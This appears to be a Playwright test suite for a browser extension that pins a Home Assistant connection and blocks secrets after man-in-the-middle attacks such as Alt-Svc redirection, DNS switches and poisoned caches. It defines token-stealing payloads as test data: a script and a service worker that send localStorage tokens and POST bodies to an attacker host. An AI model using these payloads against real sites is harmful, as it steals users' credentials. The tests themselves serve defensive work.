// Attackers who need not stand on the instance's own connection: what they left in the browser, or lead to another one.
import { createServer, type AddressInfo } from "node:net";
import { once } from "node:events";
import type { Page } from "playwright";
import { afterEach, expect, it } from "vitest";
import { PROBE_PATH } from "../../src/core/probe/probe";
import { attack, SECRET } from "../lab/attacker";
import { NAIVE } from "../lab/strategies";
import { setPreference } from "../lab/browser-chrome";
import { startFirefox, type FirefoxSession } from "../lab/firefox-session";
import { startHttp3 } from "../lab/http3";
import { startLab, UNRELATED, type Instance, type Lab } from "../lab/lab";
import { instancePage } from "../lab/instance-pages";
import { until } from "../lab/until";
import { untilArrived, untilChecked, turnOn } from "./guarded";
import { pin } from "./user";

let lab: Lab;
let firefox: FirefoxSession;

afterEach(async () => {
  await firefox.close();
  await lab.close();
});

interface Options {
  readonly isRealPort?: boolean;
  readonly prefs?: Record<string, string | number | boolean>;
}

async function start({ prefs = {}, ...options }: Options = {}): Promise<{ instance: Instance; page: Page }> {
  lab = await startLab(options);
  // Certificates as good as any to Firefox: before the pin nothing speaks against them.
  firefox = await startFirefox(lab, { prefs: { "security.pki.certificate_transparency.mode": 0, ...prefs } });
  return { instance: await lab.instance(lab.publicAuthority), page: await firefox.context.newPage() };
}

async function guard(instance: Instance, page: Page, isCleared = false): Promise<void> {
  await pin(firefox, instance);
  const popup = await firefox.extensionPage(`popup.html?address=${instance.host}`);
  await popup.getByText("This is your Home Assistant").waitFor();
  await turnOn(firefox, popup);
  if (isCleared) {
    await popup.getByRole("button", { name: "Clear", exact: true }).click();
    await popup.getByText("Cleared.", { exact: true }).waitFor();
  }
  await popup.close();
  await page.bringToFront();
}

/** He is gone from the instance's own connections; what he has left stays. */
function leave(instance: Instance): void {
  instance.attacker = undefined;
  instance.dropConnections();
}

const post = (page: Page): Promise<unknown> =>
  page.evaluate(
    `fetch('/auth/token', { method: 'POST', body: '${SECRET}' }).then((answer) => answer.status, () => 'stopped')`,
  );

/** A port of his own, where whoever comes meets him once he is on his way to an instance. */
async function startHisPort(wanted = 0, address = "127.0.0.1") {
  let him: Instance["attacker"];
  const server = createServer((socket) => him?.onConnection(socket, () => undefined));
  server.listen(wanted, address);
  await once(server, "listening");
  return {
    port: (server.address() as AddressInfo).port,
    meets: ({ attacker }: Instance): void => {
      him = attacker;
    },
    close: (): void => {
      server.close();
    },
  };
}

/** Firefox speaks no HTTP/3 where somebody has added a root, as a lab does. */
const HTTP3 = { "network.http.http3.disable_when_third_party_roots_found": false };

const WAYS: [way: string, isGuarded: boolean][] = [
  ["gives it to him where the instance is only watched", false],
  ["gives him nothing under Guard", true],
];

it.each(WAYS)("another host of his whose connection is shared: %s", async (_, isGuarded) => {
  const { instance, page } = await start({ isRealPort: true });
  if (isGuarded) await guard(instance, page);
  else await pin(firefox, instance);
  await page.goto(instance.url);
  await firefox.buttonShows("Latchkey: verified");
  // His certificate names the instance beside his own host; the instance's connections he leaves alone.
  const loot = await attack(lab, instance, NAIVE, { authority: lab.publicAuthority, names: [UNRELATED], http2: true });
  leave(instance);
  await page.evaluate(`new Promise((done) => {
    const image = new Image();
    image.onload = image.onerror = done;
    image.src = 'https://${UNRELATED}/image.svg';
  })`);
  await post(page);
  expect(loot.secrets() > 0).toBe(!isGuarded);
});

it.each(WAYS)("a port of his that the browser once was told of: %s", async (_, isGuarded) => {
  const { instance, page } = await start();
  const his = await startHisPort();
  const loot = await attack(lab, instance, NAIVE, {
    authority: lab.publicAuthority,
    http2: true,
    headers: { "Alt-Svc": `h2=":${String(his.port)}"; ma=86400` },
  });
  his.meets(instance);
  const began = Date.now();
  await page.goto(instance.url); // before anybody pinned
  await untilChecked(firefox, instance, began);
  leave(instance);
  await page.goto("about:blank"); // a look from the page's tab would be led there, too
  if (isGuarded) await guard(instance, page);
  await page.goto(instance.url).catch(() => undefined); // may give way to the page that says why
  const before = loot.requests();
  await until(
    async () => (await page.goto(instance.url).catch(() => undefined), loot.requests()),
    (requests) => requests > before || isGuarded,
  );
  if (page.url().startsWith(instance.url)) await post(page);
  expect(loot.secrets() > 0).toBe(!isGuarded);
  his.close();
});

it.each(WAYS)("HTTP/3 to a port of his, as his answers in the name system may lead to it: %s", async (_, isGuarded) => {
  const { instance, page } = await start({ prefs: HTTP3 });
  if (isGuarded) await guard(instance, page);
  else await pin(firefox, instance);
  await page.goto(instance.url);
  await firefox.buttonShows("Latchkey: verified");
  const his = await startHisPort();
  const certificate = await lab.publicAuthority.issue({ names: [instance.host] });
  const server = await startHttp3(instance.host, certificate, his.port);
  const loot = await attack(lab, instance, NAIVE, { authority: lab.publicAuthority });
  his.meets(instance);
  leave(instance);
  await setPreference(
    firefox.bidi,
    "network.http.http3.alt-svc-mapping-for-testing",
    `${instance.host};h3=:${String(server.port)}`,
  );
  // Until HTTP/3 is spoken Firefox goes on as before.
  await until(
    async () => (await page.evaluate("fetch('/image.svg?' + Math.random()).catch(() => undefined)"), loot.requests()),
    (requests) => requests > 0,
  );
  expect(await post(page)).toBe(isGuarded ? "stopped" : 200);
  expect(loot.secrets() > 0).toBe(!isGuarded);
  await firefox.buttonShows("Latchkey: WARNING");
  await server.close();
  his.close();
});

it.each(WAYS)("another computer that the name leads to from one moment to the next: %s", async (_, isGuarded) => {
  const { instance, page } = await start({
    prefs: { "network.dns.localDomains": "", "network.dns.forceResolve": "127.0.0.1" },
  });
  if (isGuarded) await guard(instance, page);
  else await pin(firefox, instance);
  const began = Date.now();
  await page.goto(instance.url);
  await firefox.buttonShows("Latchkey: verified");
  // A check that is still under way would leave a connection to the instance itself behind.
  await untilChecked(firefox, instance, began);
  const loot = await attack(lab, instance, NAIVE, { authority: lab.publicAuthority });
  const other = await startHisPort(lab.tlsPort, "127.0.0.2");
  other.meets(instance);
  leave(instance);
  await setPreference(firefox.bidi, "network.dns.forceResolve", "127.0.0.2");
  expect(await post(page)).toBe(isGuarded ? "stopped" : 200);
  expect(loot.secrets() > 0).toBe(!isGuarded);
  await firefox.buttonShows("Latchkey: WARNING");
  other.close();
});

const HIS_PAGE = "his script was here";
it.each(WAYS)("a script of his that the browser has kept: %s", async (_, isGuarded) => {
  const { instance, page } = await start();
  const steal = `document.title = '${HIS_PAGE}'; fetch('https://${UNRELATED}/x', { method: 'POST', mode: 'no-cors', body: localStorage.token });`;
  const loot = await attack(lab, instance, NAIVE, {
    authority: lab.publicAuthority,
    names: [UNRELATED],
    scripts: { "/static/app.js": steal },
    headers: { "Cache-Control": "public, max-age=86400" },
  });
  await page.goto(`${instance.url}cached`); // before anybody pinned, and before there was anything to steal
  await page.evaluate(`localStorage.token = '${SECRET}'`);
  leave(instance);
  if (isGuarded) await guard(instance, page);
  await page.goto(`${instance.url}cached`).catch(() => undefined);
  if (!isGuarded) await until(loot.secrets, (secrets) => secrets > 0);
  else {
    await until(
      () => page.url(),
      (url) => !url.startsWith(instance.url) || url.endsWith("cached"),
    );
    expect(await page.title()).not.toBe(HIS_PAGE);
    expect(loot.secrets()).toBe(0);
  }
});

const HIS_WORKER = `
addEventListener('install', (event) => event.waitUntil(skipWaiting()));
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  if (event.request.method === 'POST') event.respondWith((async () => {
    const copy = await event.request.clone().text();
    await fetch('https://${UNRELATED}/x', { method: 'POST', mode: 'no-cors', body: copy });
    return fetch(event.request);
  })());
});`;
const WORKER_WAYS: [way: string, isGuarded: boolean, isCleared: boolean][] = [
  ["while the instance is only watched", false, false],
  ["under Guard", true, false],
  ["under Guard, where what its switch offers is taken", true, true],
];
it.each(WORKER_WAYS)(
  "a worker of his from before the pin is gone, and sees nothing: %s",
  async (_, guarded, isCleared) => {
    // A careful one: nothing of his stays in the cache, where it would be evidence. Firefox keeps a page's icon whatever
    // its headers say, so his has none.
    const { instance, page } = await start({ prefs: { "browser.chrome.site_icons": false } });
    const means = { authority: lab.publicAuthority, names: [UNRELATED], headers: { "Cache-Control": "no-store" } };
    const loot = await attack(lab, instance, NAIVE, { ...means, scripts: { "/his.js": HIS_WORKER } });
    await page.goto(instance.url);
    await page.evaluate(
      "navigator.serviceWorker.register('/his.js').then(() => navigator.serviceWorker.ready).then(() => undefined)",
    );
    leave(instance);
    if (guarded) await guard(instance, page, isCleared);
    else await pin(firefox, instance);
    // The page that is open comes from his worker, perhaps: it is loaded again, which may interrupt the next one.
    await page.goto(instance.url).catch(() => undefined);
    await firefox.buttonShows("Latchkey: verified");
    await until(
      () => page.evaluate("navigator.serviceWorker.controller?.scriptURL ?? ''").catch(String),
      (controller) => controller === "",
    );
    expect(await post(page)).toBe(200);
    expect(loot.secrets()).toBe(0);
  },
);

it("shows no page of his that the browser has kept whole for the way back", async () => {
  const { instance, page } = await start({ prefs: { "fission.bfcacheInParent": true } });
  const began = Date.now();
  await pin(firefox, instance);
  await untilChecked(firefox, instance, began);
  await attack(lab, instance, NAIVE);
  await page.goto(instance.url);
  await page.evaluate("globalThis.his = true");
  await page.goto(`https://${UNRELATED}/`);
  leave(instance);
  const popup = await firefox.extensionPage(`popup.html?address=${instance.host}`);
  await turnOn(firefox, popup);
  await popup.close();
  instance.received.length = 0;
  await page.evaluate("history.back()");
  await untilArrived(page, /blocked\.html/u);
  expect(instance.received.filter(({ path }) => path === "/")).toEqual([]);
});

it.each([
  ["HTTP/2", "h2"],
  ["HTTP/3", "h3"],
])("sends no secret to an instance that shares connections, as in %s, and says why", async (_, protocol) => {
  const { instance, page } = await start({ prefs: HTTP3 });
  instance.http2 = true;
  const server = protocol === "h3" ? await startHttp3(instance.host, instance.certificate, lab.directPort) : undefined;
  instance.respond = (request, response) => {
    if (server !== undefined) response.setHeader("Alt-Svc", `h3=":${String(server.port)}"; ma=86400`);
    instancePage(request, response);
  };
  await until(
    async () => {
      await page.goto(instance.url);
      return page.evaluate("performance.getEntriesByType('navigation')[0].nextHopProtocol");
    },
    (spoken) => spoken === protocol,
  );
  await guard(instance, page);
  await page.goto(instance.url);
  expect(await post(page)).toBe("stopped");
  expect(instance.received.filter(({ path }) => path === "/auth/token")).toEqual([]);
  const popup = await firefox.extensionPage(`popup.html?address=${instance.host}`);
  await popup.getByText("Guard can’t check the connection that would carry a password or token").waitFor();
  await server?.close();
});

it("sends secrets to an instance that answers a probe in pieces, a while after it", async () => {
  const { instance, page } = await start();
  instance.respond = (request, response) => {
    if (request.url?.startsWith(PROBE_PATH) !== true) {
      instancePage(request, response);
      return;
    }
    request.resume();
    const later = (then: () => void): unknown => setTimeout(then, 30);
    later(() => {
      response.writeHead(404).write("4");
      later(() => response.end("04"));
    });
  };
  await page.goto(instance.url);
  await guard(instance, page);
  await page.goto(instance.url);
  expect(await post(page)).toBe(200);
});
